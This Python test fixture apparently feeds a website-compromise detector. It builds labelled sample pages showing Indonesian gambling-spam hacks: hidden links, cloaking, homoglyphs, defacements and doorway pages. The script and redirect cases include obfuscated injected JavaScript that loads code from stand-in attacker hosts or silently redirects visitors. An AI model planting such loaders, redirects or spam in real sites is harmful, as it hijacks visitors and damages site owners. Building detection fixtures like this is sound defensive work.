"""Hacked pages that the rules were tuned with, several of every trick."""

import base64
from collections.abc import Sequence

from tests.support.labelled.case import Case
from tests.support.labelled.frames import bare, codeigniter, joomla, news_list, paragraphs, wordpress

HOME = wordpress("Beranda", news_list())
B64 = base64.b64encode(b"window.location.href='https://maxbola.example/daftar';").decode()
CODES = ",".join(str(ord(one)) for one in "<script src='https://cdn.trafik-jahat.example/x.js'></script>")
HEX = "".join(f"\\x{ord(one):02x}" for one in "https://situsgacor.example/link")


def _home(main: str = "", *, head: str = "", foot: str = "", first: int = 0) -> str:
    return wordpress("Beranda", news_list(first) + main, head=head, foot=foot)


def _hidden(name: str, block: str) -> Case:
    return Case(f"hidden-{name}", "hidden div", True, _home(foot=block))


HIDDEN = [
    _hidden("display", "<div style='display:none'>slot gacor hari ini, situs slot terpercaya, maxwin, rtp live</div>"),
    _hidden(
        "offscreen",
        "<div style='position:absolute; left:-9999px; top:-5000px'><a href='https://slot-a.example/'>slot online</a> <a href='https://slot-b.example/'>togel hongkong</a></div>",
    ),
    _hidden("font0", "<p style='font-size:0px;color:#fff'>judi bola sbobet, agen judi terpercaya, poker online</p>"),
    _hidden("opacity", "<span style='opacity:0'>pragmatic play gacor scatter hitam mahjong ways</span>"),
    _hidden(
        "overflow",
        "<div style='height:1px;overflow:hidden'><a href='https://abc.example'>situs togel</a><a href='https://def.example'>slot dana</a></div>",
    ),
    _hidden("attr", "<section hidden><h2>Bandar togel online, toto macau, live draw hk</h2></section>"),
    _hidden(
        "noscript", "<noscript><a href='https://bo.example'>slot deposit pulsa tanpa potongan</a> gacor</noscript>"
    ),
    _hidden(
        "class",
        "<style>.xq1{position:absolute;text-indent:-9999px}</style><div class='xq1'>link alternatif sbobet88 slot77 maxwin</div>",
    ),
    _hidden("colour", "<div style='color:#ffffff;background-color:white'>slot88 rtp slot gacor</div>"),
    _hidden("comment", "<!-- slot gacor maxwin situs judi slot online terpercaya deposit dana -->"),
]

TITLES = [
    Case("title-wp", "title swap", True, wordpress("SLOT GACOR: Situs Slot Online Gampang Maxwin", news_list())),
    Case("title-joomla", "title swap", True, joomla("Bandar Togel Online Terpercaya dan Toto Macau", news_list(2))),
    Case(
        "title-pipe",
        "title swap",
        True,
        HOME.replace("<title>Beranda -", "<title>Beranda | Daftar SBOBET88 Judi Bola -"),
    ),
    Case("title-second", "title swap", True, HOME.replace("</head>", "<title>RTP Live Pragmatic Play</title></head>")),
    Case(
        "og-title",
        "title swap",
        True,
        HOME.replace('og:title" content="Beranda"', 'og:title" content="Slot Thailand Gacor Maxwin x1000"'),
    ),
    Case(
        "description",
        "title swap",
        True,
        HOME.replace('content="Situs resmi', 'content="Situs slot gacor maxwin bonus new member 100. Situs resmi'),
    ),
]

GLYPHS = [
    Case("glyph-cyrillic", "homoglyphs", True, wordpress("ЅLОТ GАСОR Ноkі", news_list())),
    Case(
        "glyph-fullwidth",
        "homoglyphs",
        True,
        _home(foot="<div style='display:none'>ＳＬＯＴ ＧＡＣＯＲ ＭＡＸＷＩＮ</div>"),
    ),
    Case("glyph-math", "homoglyphs", True, wordpress("𝗦𝗹𝗼𝘁 𝗚𝗮𝗰𝗼𝗿 𝗠𝗮𝘅𝘄𝗶𝗻", news_list())),
    Case(
        "glyph-leet",
        "homoglyphs",
        True,
        _home(foot="<div style='display:none'>sl0t g4c0r m4xw1n t0gel jud1 0nline</div>"),
    ),
    Case(
        "glyph-zero-width",
        "homoglyphs",
        True,
        wordpress("S\u200bl\u200bo\u200bt G\u200da\u200dc\u200do\u200dr", news_list()),
    ),
    Case("glyph-dashes", "homoglyphs", True, wordpress("S-L-O-T G-A-C-O-R Hari Ini", news_list())),
    Case(
        "glyph-entities",
        "homoglyphs",
        True,
        wordpress("&#83;&#108;&#111;&#116; &#x47;&#x61;&#x63;&#x6f;&#x72;", news_list()),
    ),
    Case(
        "glyph-soft", "homoglyphs", True, _home(foot="<div style='display:none'>s&shy;lot ga&shy;cor max&shy;win</div>")
    ),
]

CLOAKED = [
    Case(
        "cloak-text",
        "cloaking",
        True,
        HOME,
        crawled=wordpress("Situs Slot Gacor Maxwin Hari Ini", paragraphs("Daftar slot online deposit dana.")),
    ),
    Case(
        "cloak-links",
        "cloaking",
        True,
        HOME,
        crawled=_home(
            foot="<div><a href='https://a1.example'>slot gacor</a><a href='https://a2.example'>judi bola</a></div>"
        ),
    ),
    Case(
        "cloak-redirect",
        "cloaking",
        True,
        HOME,
        crawled="<html><body>OK</body></html>",
        crawled_url="https://rajaslot88.example/",
    ),
    Case(
        "cloak-doorway",
        "cloaking",
        True,
        joomla("Beranda", news_list(3)),
        crawled=bare("Toto Togel 4D Prediksi SGP", paragraphs("Bocoran hk, angka jitu, toto macau, live draw sdy.")),
    ),
    Case(
        "cloak-amp",
        "cloaking",
        True,
        HOME,
        crawled=_home(
            head="<link rel='amphtml' href='https://amp-gacor.example/'><meta name='description' content='Link slot gacor resmi maxwin'>"
        ),
    ),
]

SCRIPTS = [
    Case("js-atob", "injected JS", True, _home(foot=f"<script>eval(atob('{B64}'))</script>")),
    Case(
        "js-charcode", "injected JS", True, _home(foot=f"<script>document.write(String.fromCharCode({CODES}))</script>")
    ),
    Case(
        "js-hex",
        "injected JS",
        True,
        _home(foot=f"<script>var _0x1=['{HEX}'];window['location']['href']=_0x1[0];</script>"),
    ),
    Case(
        "js-src", "injected JS", True, _home(head="<script src='https://cdn.slot-gacor777.example/inject.js'></script>")
    ),
    Case(
        "js-write",
        "injected JS",
        True,
        _home(
            foot='<script>document.write(\'<div style="display:none"><a href="https://x.example">slot gacor</a> <a>togel online</a></div>\')</script>'
        ),
    ),
    Case(
        "js-unescape",
        "injected JS",
        True,
        _home(
            head="<script>document.write(unescape('%3Cscript%20src%3D%22https%3A//evil-cdn.example/a.js%22%3E%3C/script%3E'))</script>"
        ),
    ),
    Case(
        "js-packer",
        "injected JS",
        True,
        _home(
            foot="<script>eval(function(p,a,c,k,e,d){return p}('0.1.2=\"3://4.5/\"',6,6,'window|location|href|https|bonusslot|example'.split('|'),0,{}))</script>"
        ),
    ),
]

REDIRECTS = [
    Case(
        "redir-js",
        "redirect",
        True,
        "<html><head><title>Dinas</title><script>window.location='https://gacorbet.example/?ref=go'</script></head></html>",
    ),
    Case(
        "redir-replace",
        "redirect",
        True,
        _home(head='<script>location.replace("https://landing-promo.example/id");</script>'),
    ),
    Case(
        "redir-referrer",
        "redirect",
        True,
        _home(
            foot="<script>if(document.referrer.indexOf('google')>-1){top.location.href='https://hokiwin.example/'}</script>"
        ),
    ),
    Case(
        "redir-timeout",
        "redirect",
        True,
        _home(
            foot="<script>setTimeout(function(){window.location.assign('https://vip-member.example/');},1500)</script>"
        ),
    ),
    Case(
        "redir-onload",
        "redirect",
        True,
        HOME.replace("<body class", "<body onload=\"location.href='https://promo88.example'\" class"),
    ),
    Case(
        "meta-0",
        "meta refresh",
        True,
        "<html><head><meta http-equiv='refresh' content='0;url=https://slot-resmi.example/'></head><body></body></html>",
    ),
    Case(
        "meta-quoted",
        "meta refresh",
        True,
        _home(head="<META HTTP-EQUIV=Refresh CONTENT=\"2; URL='//situs-menang.example/'\">"),
    ),
    Case("meta-base", "meta refresh", True, _home(head="<base href='https://mirror.evil.example/'>")),
]

FARMS = [
    Case(
        "farm-footer",
        "link farm",
        True,
        _home(
            foot="<div>"
            + "".join(
                f"<a href='https://{n}.example'>{n}</a> "
                for n in ("rajaslot88", "gacor77", "togelhoki", "dewapoker", "sbobetindo", "maxwin138")
            )
            + "</div>"
        ),
    ),
    Case(
        "farm-hidden",
        "link farm",
        True,
        _home(
            foot="<div style='display:none'>"
            + "".join(f"<a href='https://domain-{n}.example{n}'>situs {n}</a> " for n in range(12))
            + "</div>"
        ),
    ),
    Case(
        "farm-anchor",
        "link farm",
        True,
        _home(
            foot="<p>Partner: <a href='https://klik-sini.example'>slot gacor</a>, <a href='https://klik-sana.example'>judi online terpercaya</a></p>"
        ),
    ),
    Case(
        "farm-brand",
        "link farm",
        True,
        joomla(
            "Beranda",
            news_list(),
            foot="<ul><li><a href='https://mpo500.example/'>MPO500</a></li><li><a href='https://kingbet188.example'>KINGBET188</a></li></ul>",
        ),
    ),
]

DEFACED = [
    Case(
        "deface-classic",
        "full deface",
        True,
        "<html><head><title>Hacked By Mr.Kro0oz</title></head><body bgcolor=black text=lime><center><h1>HACKED BY MR.KRO0OZ</h1><p>Greetz: all members. Your security is low!</p></center></body></html>",
    ),
    Case(
        "deface-owned",
        "full deface",
        True,
        "<title>0wn3d</title><body><pre>Owned by Black Lotus Cyber Team - security is just an illusion</pre>",
    ),
    Case(
        "deface-id",
        "full deface",
        True,
        "<html><title>Oops!</title><body><h1>Halo Admin, website anda sudah diretas oleh Palembang Ghost</h1><marquee>Greetz to ErrorSquad, GarudaXploit</marquee></body></html>",
    ),
    Case(
        "deface-in-frame",
        "full deface",
        True,
        wordpress("Pwned by 1337 Crew", paragraphs("Defaced by 1337 Crew. Patch your system, admin.")),
    ),
    Case("deface-post", "full deface", True, _home("<h2>HaCkEd By AnonSec</h2><p>we are legion, expect us</p>")),
    Case(
        "image-foreign",
        "image only",
        True,
        "<html><head><title>404?</title></head><body style='background:#000'><img src='https://i.imgur.com/abc.jpg' width='100%'></body></html>",
    ),
    Case(
        "image-background",
        "image only",
        True,
        "<html><head><title>:)</title><style>body{background:url('https://i.ibb.co/x/deface.png') no-repeat;background-size:cover}</style></head><body><audio autoplay src='https://a.top4top.io/m.mp3'></audio></body></html>",
    ),
    Case(
        "image-own-music",
        "image only",
        True,
        "<html><head><title>Message</title></head><body bgcolor=black><center><img src='/x.jpg'><embed src='https://youtube.com/v/x' autostart='true'></center></body></html>",
    ),
]

DOORWAYS = [
    Case(
        "doorway-page",
        "SEO doorway",
        True,
        wordpress(
            "Situs Slot Gacor Terpercaya 2026",
            paragraphs(
                "Situs slot gacor gampang menang dengan RTP live 98 persen.",
                "Provider: Pragmatic Play, PG Soft, Habanero.",
            ),
        ),
    ),
    Case(
        "doorway-posts",
        "SEO doorway",
        True,
        wordpress(
            "Berita",
            news_list(
                0,
                3,
                [
                    ("Link Slot Gacor Malam Ini Pasti Maxwin", "Daftar sekarang."),
                    ("Toto Macau: Prediksi Jitu Hari Ini", "Bandar resmi."),
                    ("Agen Sbobet Deposit Pulsa Tanpa Potongan", "Klik link."),
                ],
            ),
        ),
    ),
    Case(
        "doorway-visible",
        "SEO doorway",
        True,
        codeigniter(
            "Artikel",
            paragraphs(
                "Nikmati permainan slot online gacor dari pragmatic play. Scatter hitam membawa maxwin, deposit qris 5000 langsung main. Agen judi terpercaya, bonus new member 100 di situs slot resmi."
            ),
        ),
    ),
    Case(
        "ld-json",
        "SEO doorway",
        True,
        _home(
            head='<script type=\'application/ld+json\'>{"@type":"Product","name":"Slot Gacor","brand":"Maxwin88","description":"situs toto togel"}</script>'
        ),
    ),
    Case(
        "comments-injected",
        "comment injection",
        True,
        wordpress(
            "Pengumuman Seleksi",
            paragraphs("Hasil seleksi terlampir.")
            + "<ol class='comment-list'><li><cite><a href='https://agenjudi.example' rel='external nofollow'>slot gacor</a></cite><p>Mantap, kunjungi situs slot online maxwin kami</p></li></ol>",
        ),
    ),
    Case(
        "guestbook",
        "comment injection",
        True,
        bare(
            "Buku Tamu",
            "<p>Nama: Budi<br>Pesan: Bagus</p><p>Nama: poker online terpercaya<br>Pesan: main <a href=http://dominoqq.example>dominoqq</a> dan bandarq bonus deposit</p>",
        ),
    ),
    Case(
        "path-assets",
        "deep path",
        True,
        HOME,
        paths={"/assets/slot-gacor/": "<html><title>Slot Gacor Hari Ini</title><body>daftar slot</body></html>"},
    ),
    Case(
        "path-quiet",
        "deep path",
        True,
        HOME,
        paths={"/files/": "<title>Index</title><a href='https://x.example/'>slot gacor</a> <a>togel online maxwin</a>"},
    ),
    Case(
        "sitemap-spam",
        "sitemap spam",
        True,
        HOME,
        paths={
            "/sitemap.xml": "<urlset>"
            + "".join(
                f"<url><loc>https://dinkes.sumselprov.go.id/{s}</loc></url>"
                for s in ("berita", "slot-gacor-hari-ini", "situs-togel-terpercaya", "daftar-slot88")
            )
            + "</urlset>"
        },
    ),
    Case(
        "sitemap-query",
        "sitemap spam",
        True,
        HOME,
        paths={
            "/sitemap.xml": "<urlset><url><loc>https://dinkes.sumselprov.go.id/?id=judi-slot-online</loc></url><url><loc>https://dinkes.sumselprov.go.id/?id=rtp-live-pragmatic</loc></url></urlset>"
        },
    ),
    Case(
        "robots-spam",
        "sitemap spam",
        True,
        HOME,
        paths={
            "/robots.txt": "User-agent: *\nAllow: /slot-gacor/\nSitemap: https://dinkes.sumselprov.go.id/sitemap-slot-online.xml\n"
        },
    ),
]

CASES: Sequence[Case] = [*HIDDEN, *TITLES, *GLYPHS, *CLOAKED, *SCRIPTS, *REDIRECTS, *FARMS, *DEFACED, *DOORWAYS]
